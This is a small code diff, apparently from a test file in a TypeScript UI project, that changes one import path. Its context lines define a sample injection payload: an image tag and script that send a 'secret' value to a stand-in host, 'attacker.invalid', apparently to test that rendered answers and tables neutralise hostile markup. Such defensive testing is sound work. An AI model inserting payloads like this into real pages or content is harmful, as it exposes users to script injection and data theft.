@@ -8,7 +8,7 @@ import { startTurn } from '../../core/turn.ts';
 import { AnswerText } from '../chat/answer-text.tsx';
 import { columnViews } from '../findings/cell-view.ts';
 import { PlainTable } from '../findings/plain-table.tsx';
-import { toCsv } from '../results/delimited.ts';
+import { toCsv } from '../../core/delimited.ts';
 
 const somewhere = 'https://attacker.invalid/';
 const markup = `<img src="${somewhere}?secret=42" onerror="window.stolen = 42"><script>window.stolen = 42</script>`;
